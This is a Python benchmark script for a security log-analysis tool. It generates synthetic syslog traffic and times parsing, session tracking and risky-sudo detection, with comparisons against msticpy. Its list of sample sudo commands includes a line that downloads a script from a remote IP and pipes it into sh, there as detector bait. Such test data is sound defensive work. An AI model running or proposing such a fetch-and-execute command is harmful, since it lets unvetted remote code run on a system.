# ruff: noqa: E501
"""Benchmark: syslog parsing, the session tracker and stream detectors, and the msticpy-compatible batch API.

Stream part (secstream only, msticpy has no stream equivalent): a generated corpus of realistic mixed syslog
(RFC 3164 with and without PRI, RFC 5424 with structured data; sshd accepted/failed/invalid, PAM sessions,
sudo, su, cron, kernel, systemd, generic daemons) is parsed, then run through the session tracker, the
command-speed and the risky-sudo detectors; lines/s and µs per event are printed.

Batch part, side by side with msticpy in the same run (ratio = msticpy time / secstream time):
``risky_cmd_line``, ``cmd_speed`` and ``cluster_syslog_logons_df``.

Run: ``/work/venv/bin/python bench/bench_syslog.py --lines 200000`` (``--write-corpus FILE`` also writes the
corpus, e.g. for ``secstream run --syslog FILE``).
"""

from __future__ import annotations

import argparse
import gc
import random
import time
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pandas as pd

from processors.cmd_line import cmd_speed, risky_cmd_line
from processors.detect.detectors import CommandSpeedDetector, CommandSpeedState, RiskySudoDetector, RiskySudoState
from processors.detect.sessions import LogonSessionState, LogonSessionTracker
from processors.syslog import parse_syslog_line
from processors.syslog_utils import cluster_syslog_logons_df

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_USERS = ("alice", "bob", "carol", "deploy", "ubuntu", "peteb", "svc_backup", "mallory")
_BAD_USERS = ("admin", "oracle", "test", "guest", "postgres", "ftpuser")
_COMMANDS = (
    "/usr/bin/apt-get update",
    "/usr/bin/systemctl restart nginx",
    "/bin/cat /var/log/auth.log",
    "/usr/bin/tail -n 100 /var/log/syslog",
    "/bin/ls -la /root",
    "/usr/bin/docker ps",
    "/usr/bin/curl -s http://198.51.100.9/x.sh | sh",
    "/bin/bash",
    "/usr/bin/vim /etc/hosts",
)
_GENERIC = (
    ("systemd", True, "Started Session {n} of user {user}."),
    ("systemd", True, "Starting Daily apt download activities..."),
    ("systemd", True, "logrotate.service: Succeeded."),
    ("systemd-logind", True, "New session {n} of user {user}."),
    ("systemd-logind", True, "Removed session {n}."),
    ("kernel", False, "[{n}.{m:06d}] IPv4: martian source 10.0.0.{m8} from 10.0.0.1, on dev eth0"),
    (
        "kernel",
        False,
        "[{n}.{m:06d}] [UFW BLOCK] IN=eth0 OUT= MAC=00:16:3e:12:34:56 SRC=192.0.2.{m8} DST=10.0.0.5 LEN=60 PROTO=TCP SPT={port} DPT=22",
    ),
    ("CRON", True, "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"),
    ("CRON", True, "pam_unix(cron:session): session opened for user root by (uid=0)"),
    ("CRON", True, "pam_unix(cron:session): session closed for user root"),
    ("dhclient", True, "DHCPACK of 10.0.0.{m8} from 10.0.0.1"),
    ("ntpd", True, "Soliciting pool server 203.0.113.{m8}"),
    (
        "nginx",
        True,
        '2024/03/01 12:00:00 [error] 123#0: *{n} open() "/var/www/html/favicon.ico" failed (2: No such file or directory)',
    ),
    ("postfix/smtpd", True, "connect from unknown[198.51.100.{m8}]"),
    ("rsyslogd", False, '[origin software="rsyslogd" swVersion="8.2001.0"] rsyslogd was HUPed'),
)


class _Corpus:
    """Generates syslog lines over a few hosts, with sessions that open and close."""

    def __init__(self, seed: int, hosts: int) -> None:
        self.rng = random.Random(seed)
        self.hosts = [f"web-{i:02d}" for i in range(hosts)]
        self.now = datetime(2024, 3, 1, tzinfo=UTC).timestamp()
        self.open: list[tuple[str, str, int, str]] = []  # host, service, pid, user
        self.pid = 1000

    def _stamp(self, host: str, app: str, pid: int | None, message: str, severity: int = 6, facility: int = 4) -> str:
        rng = self.rng
        moment = datetime.fromtimestamp(self.now, tz=UTC)
        tag = f"{app}[{pid}]" if pid is not None else app
        pri = facility * 8 + severity
        kind = rng.random()
        if kind < 0.15:  # RFC 5424
            sd = f'[meta@32473 seq="{self.pid}" src="agent"]' if rng.random() < 0.5 else "-"
            iso = moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond:06d}Z"
            return f"<{pri}>1 {iso} {host} {app} {pid if pid is not None else '-'} - {sd} {message}"
        bsd = f"{_MONTHS[moment.month - 1]} {moment.day:2d} {moment:%H:%M:%S}"
        if kind < 0.6:
            return f"<{pri}>{bsd} {host} {tag}: {message}"
        return f"{bsd} {host} {tag}: {message}"

    def line(self) -> str:
        rng = self.rng
        self.now += rng.expovariate(1 / 0.05)
        self.pid += 1
        host = rng.choice(self.hosts)
        roll = rng.random()
        user = rng.choice(_USERS)
        if roll < 0.06:
            ip = f"203.0.113.{rng.randint(1, 254)}"
            self.open.append((host, "sshd", self.pid, user))
            return self._stamp(
                host,
                "sshd",
                self.pid,
                f"Accepted publickey for {user} from {ip} port {rng.randint(1024, 65535)} ssh2: RSA SHA256:{rng.getrandbits(64):016x}",
                facility=4,
            )
        if roll < 0.10 and self.open:
            h, service, pid, u = self.open.pop(rng.randrange(len(self.open)))
            if service == "sshd":
                return self._stamp(h, "sshd", pid, f"pam_unix(sshd:session): session closed for user {u}", facility=10)
            return self._stamp(h, "sudo", None, f"pam_unix(sudo:session): session closed for user {u}", facility=10)
        if roll < 0.14:
            pid = self.open[-1][2] if self.open and self.open[-1][1] == "sshd" else self.pid
            return self._stamp(
                host, "sshd", pid, f"pam_unix(sshd:session): session opened for user {user} by (uid=0)", facility=10
            )
        if roll < 0.24:
            bad = rng.choice(_BAD_USERS)
            ip = f"192.0.2.{rng.randint(1, 254)}"
            if rng.random() < 0.5:
                return self._stamp(
                    host,
                    "sshd",
                    self.pid,
                    f"Failed password for invalid user {bad} from {ip} port {rng.randint(1024, 65535)} ssh2",
                )
            return self._stamp(host, "sshd", self.pid, f"Invalid user {bad} from {ip} port {rng.randint(1024, 65535)}")
        if roll < 0.30:
            command = rng.choice(_COMMANDS)
            return self._stamp(
                host,
                "sudo",
                None,
                f"   {user} : TTY=pts/{rng.randint(0, 5)} ; PWD=/home/{user} ; USER=root ; COMMAND={command}",
                facility=10,
            )
        if roll < 0.33:
            self.open.append((host, "sudo", 0, "root"))
            return self._stamp(
                host,
                "sudo",
                None,
                f"pam_unix(sudo:session): session opened for user root by {user}(uid=0)",
                facility=10,
            )
        if roll < 0.34:
            return self._stamp(host, "su", self.pid, f"(to root) {user} on pts/{rng.randint(0, 5)}", facility=10)
        if roll < 0.345:
            return self._stamp(
                host,
                "useradd",
                self.pid,
                f"new user: name=u{self.pid}, UID={self.pid}, GID={self.pid}, home=/home/u{self.pid}, shell=/bin/bash, from=/dev/pts/0",
            )
        if len(self.open) > 200:
            self.open = self.open[-100:]
        app, has_pid, template = rng.choice(_GENERIC)
        message = template.format(
            n=self.pid, m=rng.randint(0, 999999), m8=rng.randint(1, 254), user=user, port=rng.randint(1024, 65535)
        )
        return self._stamp(
            host, app, self.pid if has_pid else None, message, severity=rng.choice((3, 4, 5, 6, 6, 6, 7))
        )


def make_corpus(lines: int, seed: int = 1, hosts: int = 20) -> list[str]:
    """Return ``lines`` generated syslog lines (deterministic for a seed)."""
    corpus = _Corpus(seed, hosts)
    return [corpus.line() for _ in range(lines)]


def _best(fn: Callable[[], Any], repeat: int) -> tuple[float, Any]:
    best, result = float("inf"), None
    for _ in range(repeat):
        gc.collect()
        start = time.perf_counter()
        result = fn()
        best = min(best, time.perf_counter() - start)
    return best, result


def _stream(lines: list[str], repeat: int) -> list[dict[str, Any]]:
    def parse_all() -> None:  # streaming: documents are dropped, as a worker hands each batch on
        for line in lines:
            parse_syslog_line(line, year=2024)

    t_parse, _ = _best(parse_all, repeat)
    docs = [parse_syslog_line(line, year=2024) for line in lines]
    print(
        f"parse_syslog_line: {len(lines) / t_parse:,.0f} lines/s ({t_parse * 1e6 / len(lines):.2f} µs/line, best of {repeat})"
    )
    tracker, speed, sudo = LogonSessionTracker(), CommandSpeedDetector(), RiskySudoDetector()

    def detect() -> tuple[int, int]:
        fresh = [parse_syslog_line(line, year=2024) for line in lines]  # the tracker annotates documents
        states: dict[str, tuple[LogonSessionState, CommandSpeedState, RiskySudoState]] = {}
        start = time.perf_counter()
        summaries = hits = 0
        for doc in fresh:
            host = doc["host"]["name"]
            st = states.get(host)
            if st is None:
                st = states[host] = (LogonSessionState(), CommandSpeedState(), RiskySudoState())
            summaries += len(tracker.process(doc, st[0]))
            found = speed.process(doc, st[1])
            found += sudo.process(doc, st[2], found)
            hits += len(found)
        detect.elapsed = time.perf_counter() - start  # type: ignore[attr-defined]
        return summaries, hits

    elapsed = float("inf")
    for _ in range(repeat):
        gc.collect()
        summaries, hits = detect()
        elapsed = min(elapsed, detect.elapsed)  # type: ignore[attr-defined]
    print(
        f"sessions + cmd_speed + risky_sudo: {elapsed * 1e6 / len(lines):.2f} µs/event ({summaries} session summaries, {hits} detections)"
    )
    return docs


def _batch(docs: list[dict[str, Any]], rows: int) -> None:
    times = pd.date_range("2024-03-01", periods=rows, freq="250ms")
    commands = [d.get("syslog", {}).get("command") or d["message"] for d in docs[:rows]]
    frame = pd.DataFrame({"TimeGenerated": times, "Command": commands})
    strs = frame.assign(TimeGenerated=frame["TimeGenerated"].astype(str))
    logons = pd.DataFrame(
        {
            "TimeGenerated": [d["@timestamp"] for d in docs[:rows]],
            "SyslogMessage": [d["message"] for d in docs[:rows]],
            "Computer": [d["host"]["name"] for d in docs[:rows]],
            "ProcessName": [d.get("process", {}).get("name") for d in docs[:rows]],
            "ProcessID": [d.get("process", {}).get("pid") for d in docs[:rows]],
        }
    )
    ours = {
        "risky_cmd_line": lambda: len(risky_cmd_line(strs, log_type="Syslog")),
        "cmd_speed": lambda: len(cmd_speed(frame, cmd_field="Command")),
        "cluster_syslog_logons_df": lambda: len(cluster_syslog_logons_df(logons)),
    }
    try:
        from msticpy.analysis import syslog_utils as msu
        from msticpy.transform import cmd_line as mcl
    except ImportError:
        msu = mcl = None
    refs: dict[str, Callable[[], Any]] = {}
    if mcl is not None and msu is not None:
        refs = {
            "risky_cmd_line": lambda: len(mcl.risky_cmd_line(strs.copy(), log_type="Syslog")),
            "cmd_speed": lambda: len(mcl.cmd_speed(frame.copy(), cmd_field="Command")),
            "cluster_syslog_logons_df": lambda: len(
                msu.cluster_syslog_logons_df(logons.assign(TimeGenerated=pd.to_datetime(logons["TimeGenerated"])))
            ),
        }
    for name, fn in ours.items():
        t_ours, n_ours = _best(fn, 1)
        if name not in refs:
            print(f"{name} ({rows} rows): secstream {t_ours:.3f}s ({n_ours}); msticpy not installed")
            continue
        t_ref, n_ref = _best(refs[name], 1)
        print(
            f"{name} ({rows} rows): secstream {t_ours:.3f}s ({n_ours}), msticpy {t_ref:.3f}s ({n_ref}), ratio {t_ref / t_ours:.2f}x"
        )


def main() -> None:
    """Run the benchmark."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--lines", type=int, default=200_000, help="corpus size")
    parser.add_argument("--batch-rows", type=int, default=20_000, help="rows for the msticpy comparisons")
    parser.add_argument("--repeat", type=int, default=2, help="stream timings: best of N")
    parser.add_argument("--write-corpus", metavar="FILE", help="also write the corpus to FILE")
    parser.add_argument("--no-batch", action="store_true", help="skip the msticpy comparisons")
    args = parser.parse_args()
    lines = make_corpus(args.lines)
    if args.write_corpus:
        with open(args.write_corpus, "w", encoding="utf-8") as out:
            out.writelines(line + "\n" for line in lines)
    docs = _stream(lines, args.repeat)
    if not args.no_batch:
        _batch(docs, min(args.batch_rows, len(docs)))


if __name__ == "__main__":
    main()
